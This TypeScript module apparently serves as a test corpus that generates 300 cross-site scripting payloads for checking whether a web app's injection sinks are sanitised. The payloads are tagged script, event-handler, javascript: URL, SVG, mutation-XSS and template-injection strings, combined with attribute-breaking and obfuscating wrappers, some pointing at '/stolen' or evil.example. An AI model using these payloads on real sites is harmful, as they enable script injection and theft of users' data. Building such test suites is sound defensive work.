/**
 * Three hundred texts that become script where they are put into a page as markup, an attribute,
 * an address, a style or a template. Each says who it is when it runs: `hit('t17')` is the
 * seventeenth, from the sink `t`.
 */

const VECTORS: ((hit: string) => string)[] = [
  (hit) => `<script>${hit}</script>`,
  (hit) => `<script src="/stolen?${hit}"></script>`,
  (hit) => `<img src=/stolen onerror=${hit}>`,
  (hit) => `<img src=x onerror="${hit}">`,
  (hit) => `<svg onload=${hit}>`,
  (hit) => `<svg><script>${hit}</script></svg>`,
  (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  (hit) => `<svg><a xlink:href="javascript:${hit}"><text y=20>x</text></a></svg>`,
  (hit) => `<body onload=${hit}>`,
  (hit) => `<iframe src="javascript:${hit}"></iframe>`,
  (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  (hit) => `<object data="javascript:${hit}"></object>`,
  (hit) => `<embed src="/stolen?${hit}">`,
  (hit) => `<video><source onerror=${hit}></video>`,
  (hit) => `<audio src=/stolen onerror=${hit}></audio>`,
  (hit) => `<input autofocus onfocus=${hit}>`,
  (hit) => `<select autofocus onfocus=${hit}></select>`,
  (hit) => `<details open ontoggle=${hit}>x</details>`,
  (hit) => `<marquee onstart=${hit}>x</marquee>`,
  (hit) => `<a href="javascript:${hit}">x</a>`,
  (hit) => `<a href="jAvAsCrIpT&colon;${hit}">x</a>`,
  (hit) => `<form action="javascript:${hit}"><button>x</button></form>`,
  (hit) => `<math><mtext><table><mglyph><style><img src onerror=${hit}></style></mglyph></table></mtext></math>`,
  (hit) => `<noscript><p title="</noscript><img src onerror=${hit}>">`,
  (hit) => `<template><img src onerror=${hit}></template><img src onerror=${hit}>`,
  (hit) => `<style>@import '/stolen?${hit}';</style>`,
  (hit) => `<link rel=stylesheet href="/stolen?${hit}">`,
  (hit) => `<meta http-equiv=refresh content="0;url=/stolen?${hit}">`,
  (hit) => `<base href="https://evil.example/"><img src=stolen onerror=${hit}>`,
  (hit) => `<div style="background:url(/stolen?${hit})">x</div>`,
  (hit) => `<div style="animation:x" onanimationstart=${hit}>x</div><style>@keyframes x{}</style>`,
  (hit) => `<x onclick=${hit} onpointerover=${hit} autofocus tabindex=1 onfocus=${hit}>x</x>`,
  (hit) => `<button popovertarget=p onclick=${hit}>x</button><div popover id=p onbeforetoggle=${hit}>x</div>`,
  (hit) => `{@html "<img src onerror=${hit}>"}\${${hit}}{{constructor.constructor("${hit}")()}}`,
];

const AROUND: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</textarea></title></option></select>${payload}`,
  (payload) => `--></script></style>${payload}`,
  (payload) => `" onmouseover="1" x="${payload}`,
  (payload) => `]]>\u0000\u202E${payload}`,
  (payload) => `x" autofocus onfocus='1'>${payload}<!--`,
  (payload) =>
    payload
      .replaceAll('<', '\uFF1C<')
      .toUpperCase()
      .replace(/HIT\('([A-Z])/g, (_, sink: string) => `hit('${sink.toLowerCase()}`),
];

const ALL = AROUND.flatMap((around) => VECTORS.map((vector) => (hit: string) => around(vector(hit))));
export const COUNT = 300;

/** The payloads for one sink, each with its own name. */
export function payloads(sink: string): string[] {
  return ALL.slice(0, COUNT).map((make, n) => make(`hit('${sink}${n}')`));
}
